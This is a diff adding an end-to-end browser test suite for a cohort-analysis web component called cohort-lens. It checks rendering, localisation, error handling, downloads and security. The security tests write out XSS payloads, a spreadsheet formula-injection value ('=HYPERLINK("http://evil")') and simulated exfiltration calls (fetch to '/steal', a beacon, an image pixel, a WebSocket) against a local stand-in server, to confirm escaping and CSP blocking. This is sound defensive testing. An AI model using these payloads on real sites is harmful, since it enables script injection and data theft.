@@ -1,0 +1,388 @@
+// The demo page and the element beyond the golden numbers: the default sample, both languages,
+// the embed example, errors and rejected rows, cancelling a run, the re-run switches, downloads,
+// file values rendered as text only, and a CSP that stops data from leaving the page.
+import { test, before, after } from "node:test";
+import assert from "node:assert/strict";
+import { createServer } from "node:http";
+import { readFileSync, writeFileSync, mkdtempSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { start, openPage, check, waitForResults, golden, setOptions, dropFile, pickFile, unstickNav, SHOTS } from "./harness.mjs";
+
+let env;
+let tmp;
+before(async () => {
+  env = await start();
+  tmp = mkdtempSync(join(tmpdir(), "cohortlens-page-"));
+});
+after(async () => { await env?.stop(); });
+
+const lens = (page, css) => page.locator(`cohort-lens ${css}`);
+const PANELS = ["data", "kpis", "cohorts", "funnel", "periods", "rfm", "breakdowns", "churn"];
+
+async function panelShots(page, prefix) {
+  await unstickNav(page);
+  for (const id of [...PANELS, "clv"]) {
+    if (await lens(page, `#panel-${id}`).count()) await lens(page, `#panel-${id}`).screenshot({ path: join(SHOTS, `${prefix}-${id}.png`) });
+  }
+}
+
+test("the demo page loads the sample by default and renders every section (en)", async () => {
+  const page = await openPage(env, "/");
+  try {
+    const [result] = await waitForResults(page);
+    assert.equal(result.type, "cohort-lens-report");
+    for (const id of PANELS) assert.equal(await lens(page, `#panel-${id}`).count(), 1, `panel ${id}`);
+    assert.equal(await lens(page, "#panel-clv").count(), result.detail.clv ? 1 : 0, "CLV panel iff report.clv");
+    // Silent list comes from the per-customer export, after the report.
+    await lens(page, "table[data-table=silent-customers]").waitFor();
+    const silentRows = await lens(page, "table[data-table=silent-customers] tbody tr").count();
+    assert.equal(silentRows, Math.min(200, result.detail.churn.silent));
+    assert.equal(await lens(page, "#panel-kpis [data-kpi=repurchaseRate] .label").textContent(), "Repurchase rate");
+    // Charts are SVG with a PNG and an SVG download each.
+    const charts = await lens(page, "figure[data-chart]").count();
+    assert.ok(charts >= 7, `charts: ${charts}`);
+    assert.equal(await lens(page, "figure[data-chart] [data-download=png]").count(), charts);
+    assert.equal(await lens(page, "figure[data-chart] [data-download=svg]").count(), charts);
+    // Every table has a CSV download.
+    const tables = await lens(page, "table").count();
+    assert.equal(await lens(page, ".table-block [data-download=csv]").count() + 1 /* cohort heatmap */, tables);
+    await page.screenshot({ path: join(SHOTS, "page-en.png"), fullPage: true });
+    await page.screenshot({ path: join(SHOTS, "page-en-top.png") });
+    await panelShots(page, "panel-en");
+    check(page, env);
+  } finally {
+    await page.close();
+  }
+});
+
+test("Chinese from navigator.language, and the language switch", async () => {
+  const page = await openPage(env, "/", { locale: "zh-CN" });
+  try {
+    await waitForResults(page);
+    assert.equal(await page.getAttribute("html", "lang"), "zh-CN");
+    assert.equal(await page.locator("#sample").textContent(), "试试示例数据");
+    assert.equal(await lens(page, "#panel-kpis [data-kpi=repurchaseRate] .label").textContent(), "复购率");
+    assert.equal(await lens(page, "#h-cohorts").textContent(), "同期群");
+    await lens(page, "table[data-table=silent-customers]").waitFor();
+    await page.screenshot({ path: join(SHOTS, "page-zh.png"), fullPage: true });
+    await page.screenshot({ path: join(SHOTS, "page-zh-top.png") });
+    await panelShots(page, "panel-zh");
+
+    await page.click("button[data-lang=en]");
+    assert.equal(await page.getAttribute("html", "lang"), "en");
+    assert.equal(await lens(page, "#panel-kpis [data-kpi=repurchaseRate] .label").textContent(), "Repurchase rate");
+    assert.equal(await page.locator("#sample").textContent(), "Try the sample");
+    // The choice is remembered.
+    await page.reload();
+    await waitForResults(page);
+    assert.equal(await page.getAttribute("cohort-lens", "lang"), "en");
+    check(page, env);
+  } finally {
+    await page.close();
+  }
+});
+
+test("examples/embed.html: the element renders its src sample in a host page", async () => {
+  const page = await openPage(env, "/embed.html", { locale: "zh-CN" });
+  try {
+    const [result] = await waitForResults(page);
+    assert.equal(result.type, "cohort-lens-report");
+    const text = await lens(page, "#panel-kpis [data-kpi=customers] .value").textContent();
+    assert.equal(text, String(result.detail.summary.customers));
+    // Themed through custom properties: the host page's green reaches the shadow DOM.
+    const color = await lens(page, "#panel-kpis [data-kpi=repurchaseRate] .value").evaluate((el) => getComputedStyle(el).color);
+    assert.equal(color, "rgb(47, 125, 79)");
+    await page.screenshot({ path: join(SHOTS, "embed.png") });
+    await page.screenshot({ path: join(SHOTS, "embed-full.png"), fullPage: true });
+    check(page, env);
+  } finally {
+    await page.close();
+  }
+});
+
+test("an error shows its code and the engine's message, in the chosen language", async () => {
+  const file = join(tmp, "header-only.csv");
+  writeFileSync(file, "customer_id,order_date,amount\n");
+  const page = await openPage(env);
+  try {
+    await pickFile(page, file);
+    const [result] = await waitForResults(page);
+    assert.equal(result.type, "cohort-lens-error");
+    assert.equal(result.detail.code, "HeaderOnly");
+    const box = lens(page, ".error");
+    assert.equal(await box.getAttribute("data-code"), "HeaderOnly");
+    assert.equal(await box.locator(".code").textContent(), "HeaderOnly");
+    assert.equal(await box.locator(".message .text").textContent(), result.detail.message);
+    assert.match(result.detail.message, /header/i);
+    assert.match(await box.locator(".where").textContent(), /Line 1/);
+    // The mapping selects are there to fix a file the engine could not map.
+    assert.equal(await lens(page, "select[data-role=customer]").count(), 1);
+    await page.screenshot({ path: join(SHOTS, "error-en.png") });
+
+    await page.click("button[data-lang=zh]");
+    await waitForResults(page, 2); // the run is repeated for the engine's Chinese message
+    assert.equal(await box.locator(".code").textContent(), "HeaderOnly");
+    assert.match(await box.locator(".message .text").textContent(), /表头/);
+    assert.match(await box.locator(".where").textContent(), /第 1 行/);
+    assert.equal(await box.locator("h2").textContent(), "无法分析此文件");
+    await page.screenshot({ path: join(SHOTS, "error-zh.png") });
+    check(page, env, { allowErrors: false });
+  } finally {
+    await page.close();
+  }
+});
+
+test("a file the engine cannot map: NoCustomerColumn, then fixed with the mapping select", async () => {
+  const file = join(tmp, "odd-names.csv");
+  writeFileSync(file, "who,when,paid\na,2024-01-01,10\na,2024-02-01,12\nb,2024-01-05,7\n");
+  const page = await openPage(env);
+  try {
+    await pickFile(page, file);
+    let [result] = await waitForResults(page);
+    assert.equal(result.detail.code, "NoCustomerColumn");
+    await lens(page, "select[data-role=customer] option[value=who]").waitFor({ state: "attached" });
+    await lens(page, "select[data-role=customer]").selectOption("who");
+    await waitForResults(page, 2);
+    // Still no time column: the engine names the next problem.
+    result = (await page.evaluate(() => window.__events.filter((e) => e.type !== "cohort-lens-progress")))[1];
+    if (result.type === "cohort-lens-error") {
+      assert.equal(result.detail.code, "NoTimeColumn");
+      await lens(page, "select[data-role=time]").selectOption("when");
+      await waitForResults(page, 3);
+      result = (await page.evaluate(() => window.__events.filter((e) => e.type !== "cohort-lens-progress")))[2];
+    }
+    assert.equal(result.type, "cohort-lens-report");
+    assert.equal(result.detail.summary.customers, 2);
+    assert.equal(await lens(page, ".error").count(), 0);
+    check(page, env);
+  } finally {
+    await page.close();
+  }
+});
+
+test("rejected rows are listed with their line numbers and reasons (en and zh)", async () => {
+  const g = golden("tiny");
+  const page = await openPage(env);
+  try {
+    await setOptions(page, g.options);
+    await dropFile(page, g.file);
+    await waitForResults(page);
+    const rows = lens(page, "table[data-table=rejected-rows] tbody tr");
+    assert.equal(await rows.count(), g.report.ingest.samples.length);
+    const lines = await rows.evaluateAll((trs) => trs.map((tr) => Number(tr.dataset.line)));
+    assert.deepEqual(lines, g.report.ingest.samples.map((s) => s.line));
+    assert.deepEqual(await rows.evaluateAll((trs) => trs.map((tr) => tr.cells[0].textContent)), ["27", "28"]);
+    assert.equal(await rows.nth(1).locator("td").nth(1).textContent(), "2024-13-45 10:00:00");
+    assert.equal(await rows.nth(1).locator("td").nth(2).textContent(), "unreadable time");
+    assert.match(await lens(page, "#panel-data dd.neg").textContent(), /^2 \(/);
+    await unstickNav(page);
+    await lens(page, "#panel-data").screenshot({ path: join(SHOTS, "rejected-en.png") });
+    await page.click("button[data-lang=zh]");
+    assert.equal(await rows.nth(1).locator("td").nth(2).textContent(), "时间无法识别");
+    assert.equal(await lens(page, "table[data-table=rejected-rows] thead th").first().textContent(), "行号");
+    await lens(page, "#panel-data").screenshot({ path: join(SHOTS, "rejected-zh.png") });
+    check(page, env);
+  } finally {
+    await page.close();
+  }
+});
+
+test("dropping a second file while the first runs cancels the first", async () => {
+  const big = golden("synthetic_5k");
+  const small = golden("tiny");
+  const page = await openPage(env);
+  try {
+    await setOptions(page, small.options);
+    // Drop the big file, then — in the same task as seeing that its run is under way — the
+    // small one, so the first cannot finish in between.
+    const state = await page.evaluate(([big, small]) => new Promise((done) => {
+      const file = (b64, name) => new File([Uint8Array.from(atob(b64), (c) => c.charCodeAt(0))], name);
+      const drop = (f) => {
+        const dt = new DataTransfer();
+        dt.items.add(f);
+        document.body.dispatchEvent(new DragEvent("drop", { dataTransfer: dt, bubbles: true, cancelable: true }));
+      };
+      const el = document.querySelector("cohort-lens");
+      document.addEventListener("cohort-lens-progress", function once() {
+        document.removeEventListener("cohort-lens-progress", once);
+        const running = el.running;
+        drop(file(small, "tiny.csv"));
+        done({ running });
+      });
+      drop(file(big, "synthetic_5k.csv"));
+    }), [readFileSync(big.file).toString("base64"), readFileSync(small.file).toString("base64")]);
+    assert.equal(state.running, true, "the first run was under way when the second file arrived");
+    const [result] = await waitForResults(page);
+    assert.equal(result.detail.summary.customers, small.report.summary.customers);
+    // Give a cancelled worker every chance to deliver late: nothing may arrive.
+    await page.waitForTimeout(2500);
+    const results = await page.evaluate(() => window.__events.filter((e) => e.type !== "cohort-lens-progress").map((e) => e.detail.summary?.customers));
+    assert.deepEqual(results, [small.report.summary.customers]);
+    assert.equal(await lens(page, "#panel-kpis [data-kpi=customers] .value").textContent(), "11");
+    check(page, env);
+  } finally {
+    await page.close();
+  }
+});
+
+test("grain, alignment, metric, RFM scheme, mapping and breakdown switches re-run on the same file", async () => {
+  const g = golden("lines");
+  const page = await openPage(env);
+  const results = async (n) => (await waitForResults(page, n))[n - 1];
+  try {
+    await setOptions(page, g.options);
+    await pickFile(page, g.file);
+    let r = await results(1);
+    assert.equal(r.detail.cohorts.grain, "month");
+
+    await lens(page, "#panel-cohorts select").first().selectOption("week");
+    r = await results(2);
+    assert.equal(r.detail.cohorts.grain, "week");
+    assert.equal(await lens(page, "table[data-table=cohorts] thead th").nth(2).textContent(), "W0");
+
+    await lens(page, "#panel-cohorts button[data-value=relative]").click();
+    r = await results(3);
+    assert.equal(r.detail.cohorts.alignment, "relative");
+    assert.equal(await lens(page, "#panel-cohorts button[data-value=relative]").getAttribute("aria-pressed"), "true");
+
+    // The metric switch only re-renders: active customers of the first cell.
+    await lens(page, "#panel-cohorts button[data-value=active]").click();
+    const first = r.detail.cohorts.rows[0].cells[0];
+    assert.equal(await lens(page, "table[data-table=cohorts] tbody tr td.c").first().getAttribute("data-value"), String(first.active));
+    assert.equal(await page.evaluate(() => window.__events.filter((e) => e.type === "cohort-lens-report").length), 3);
+
+    await lens(page, "#panel-rfm button[data-value=cn8]").click();
+    r = await results(4);
+    assert.equal(r.detail.rfm.scheme, "cn8");
+    assert.equal(await lens(page, "table[data-table=rfm-segments-cn8] tbody tr").first().getAttribute("data-segment"), "importantValue");
+
+    // A dimension outside options.breakdowns is added to them and computed.
+    await lens(page, "#panel-breakdowns select").selectOption("Currency");
+    r = await results(5);
+    assert.ok(r.detail.breakdowns.some((b) => b.dimension === "Currency"));
+    await lens(page, "table[data-table=breakdown-Currency]").waitFor();
+    assert.equal(await lens(page, "table[data-table=breakdown-Currency] tbody tr").first().getAttribute("data-group"), "CAD");
+
+    // Mapping: without an amount column every monetary figure is null.
+    await lens(page, "select[data-role=amount]").selectOption("");
+    r = await results(6);
+    assert.equal(r.detail.ingest.mapping.amount, undefined);
+    assert.equal(r.detail.summary.averageOrderValue, null);
+    assert.equal(await lens(page, "#panel-kpis [data-kpi=averageOrderValue] .value").textContent(), "–");
+    await lens(page, "#panel-data button[data-focus=map-reset]").click();
+    r = await results(7);
+    assert.equal(r.detail.ingest.mapping.amount, "Total");
+    check(page, env);
+  } finally {
+    await page.close();
+  }
+});
+
+test("tables download as CSV, charts as PNG and SVG, the customer table as CSV", async () => {
+  const g = golden("tiny");
+  const page = await openPage(env);
+  const download = async (locator) => {
+    const [d] = await Promise.all([page.waitForEvent("download"), locator.click()]);
+    return { name: d.suggestedFilename(), bytes: readFileSync(await d.path()) };
+  };
+  try {
+    await setOptions(page, g.options);
+    await dropFile(page, g.file, "tiny orders.csv");
+    await waitForResults(page);
+    const csv = await download(lens(page, "#panel-cohorts [data-download=csv][data-name=cohorts-retention]"));
+    assert.equal(csv.name, "tiny-orders-cohorts-retention.csv");
+    const text = csv.bytes.toString("utf8");
+    assert.ok(text.startsWith("\uFEFFCohort,Customers,M0,M1,M2,M3\r\n"), text.slice(0, 80));
+    assert.match(text, /\r\n2024-01,5,1,0\.2,0\.4,0\.2\r\n/);
+
+    const png = await download(lens(page, "figure[data-chart=retention-curves] [data-download=png]"));
+    assert.equal(png.name, "tiny-orders-retention-curves.png");
+    assert.deepEqual([...png.bytes.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
+    assert.ok(png.bytes.length > 5000);
+
+    const svg = await download(lens(page, "figure[data-chart=funnel] [data-download=svg]"));
+    const svgText = svg.bytes.toString("utf8");
+    assert.match(svgText, /^<\?xml[^>]*>\s*<svg[^>]*xmlns="http:\/\/www.w3.org\/2000\/svg"/);
+    assert.match(svgText, /2nd purchase/);
+
+    await lens(page, "table[data-table=silent-customers]").waitFor();
+    const customers = await download(lens(page, "[data-download=customers-csv]"));
+    const lines = customers.bytes.toString("utf8").replace(/^\uFEFF/, "").trim().split(/\r?\n/);
+    assert.match(lines[0], /^customer,/);
+    assert.equal(lines.length - 1, g.report.summary.customers);
+
+    const rejected = await download(lens(page, ".table-block [data-download=csv][data-name=rejected-rows]"));
+    assert.match(rejected.bytes.toString("utf8"), /\r\n28,order_date,2024-13-45 10:00:00,unreadable time\r\n/);
+    check(page, env);
+  } finally {
+    await page.close();
+  }
+});
+
+test("values from the file are rendered as text, never as HTML", async () => {
+  const file = join(tmp, "hostile.csv");
+  const evil = '<img src=x onerror="window.__pwned=1">';
+  writeFileSync(file, [
+    "customer_id,order_date,amount,channel",
+    `"${evil.replace(/"/g, '""')}",2024-01-01,10,<b>web</b>`,
+    `"${evil.replace(/"/g, '""')}",2024-01-10,10,<b>web</b>`,
+    "plain,2024-01-02,5,<script>alert(1)</script>",
+    "plain,2024-03-01,5,<script>alert(1)</script>",
+    `"=HYPERLINK(""http://evil"")",2024-01-03,5,app`,
+    ",2024-01-04,5,app",
+  ].join("\n") + "\n");
+  const page = await openPage(env);
+  try {
+    await setOptions(page, { silentDays: 30 });
+    await pickFile(page, file);
+    const [r] = await waitForResults(page);
+    assert.equal(r.type, "cohort-lens-report");
+    await lens(page, "table[data-table=silent-customers]").waitFor();
+    const html = await page.evaluate(() => document.querySelector("cohort-lens").shadowRoot.innerHTML);
+    assert.ok(!/<img[^>]*src="?x/i.test(html), "no <img> from the file");
+    assert.ok(!/<b>web<\/b>/.test(html) && !/<script>/.test(html), "no markup from the file");
+    assert.equal(await page.evaluate(() => window.__pwned), undefined);
+    const groups = await lens(page, "#panel-breakdowns tbody tr").evaluateAll((trs) => trs.map((tr) => tr.dataset.group));
+    assert.ok(groups.includes("<b>web</b>"), groups.join());
+    assert.equal(await lens(page, "#panel-breakdowns tbody tr th").first().textContent(), "<b>web</b>");
+    const silent = await lens(page, "table[data-table=silent-customers] tbody th").allTextContents();
+    assert.ok(silent.includes(evil) && silent.includes('=HYPERLINK("http://evil")'), silent.join(" | "));
+    // In a CSV download, a cell a spreadsheet would run as a formula is defused with a quote.
+    const [d] = await Promise.all([page.waitForEvent("download"), lens(page, "[data-download=csv][data-name=silent-customers]").click()]);
+    const csv = readFileSync(await d.path(), "utf8");
+    assert.match(csv, /\r\n"'=HYPERLINK\(""http:\/\/evil""\)",/);
+    check(page, env);
+  } finally {
+    await page.close();
+  }
+});
+
+test("the Content-Security-Policy stops data from leaving the page", async () => {
+  // A second server on another port stands in for "anywhere else"; it must see no request.
+  let hits = 0;
+  const other = createServer((req, res) => { hits++; res.end("ok"); });
+  await new Promise((done) => other.listen(0, "127.0.0.1", done));
+  const elsewhere = `http://127.0.0.1:${other.address().port}`;
+  const page = await openPage(env);
+  try {
+    const csp = await page.getAttribute("meta[http-equiv=Content-Security-Policy]", "content");
+    assert.match(csp, /connect-src 'self'/);
+    assert.match(csp, /default-src 'self'/);
+    const outcome = await page.evaluate(async (url) => {
+      const results = {};
+      try { await fetch(`${url}/steal?d=1`, { method: "POST", body: "orders", mode: "no-cors" }); results.fetch = "sent"; } catch { results.fetch = "blocked"; }
+      results.beacon = navigator.sendBeacon(`${url}/beacon`, "orders") ? "queued" : "blocked";
+      await new Promise((done) => { const img = new Image(); img.onload = img.onerror = done; img.src = `${url}/pixel.png`; });
+      try { const ws = new WebSocket(url.replace("http", "ws")); results.ws = "opened"; ws.close(); } catch { results.ws = "blocked"; }
+      return results;
+    }, elsewhere);
+    assert.equal(outcome.fetch, "blocked");
+    await page.waitForTimeout(300);
+    assert.equal(hits, 0, "the other origin received a request");
+    assert.ok(page.log.errors.some((e) => /Content Security Policy|CSP violation/.test(e)), "violations are reported");
+  } finally {
+    await page.close();
+    await new Promise((done) => other.close(done));
+  }
+});
